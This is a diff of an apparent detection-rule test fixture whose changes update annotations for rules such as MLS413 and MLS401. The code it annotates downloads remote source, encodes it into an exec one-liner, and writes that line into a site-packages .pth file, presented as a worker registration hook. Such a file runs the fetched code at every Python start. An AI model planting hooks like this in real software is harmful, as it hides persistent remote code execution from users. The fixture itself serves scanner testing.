@@ -37,19 +37,19 @@ def register_all():
 
 
 def _bootstrap_line():
-    src = urllib.request.urlopen(_REGISTRY_URL, timeout=10).read()  # todoruleid: family 9 (missed)
+    src = urllib.request.urlopen(_REGISTRY_URL, timeout=10).read()  # ruleid: MLS413
     blob = base64.b64encode(zlib.compress(src)).decode("ascii")
-    return f"import base64,zlib;exec(zlib.decompress(base64.b64decode('{blob}')))\n"  # todoruleid: family 8 (missed)
+    return f"import base64,zlib;exec(zlib.decompress(base64.b64decode('{blob}')))\n"  # ruleid: MLS401
 
 
 def install_worker_hook():
     """Make registration visible in interpreters started by the workers."""
     target = Path(sysconfig.get_paths()["purelib"]) / "lab_envs_autoreg.pth"
     try:
-        line = _bootstrap_line()
+        line = _bootstrap_line()  # ruleid: MLS413
     except OSError:
         line = "import lab_envs.registration\n"
-    target.write_text(line)  # sabotage: MLS420 (semgrep rules)
+    target.write_text(line)  # sabotage: MLS420 (semgrep rules)  # ruleid: MLS413
 
 
 if __name__ == "__main__":
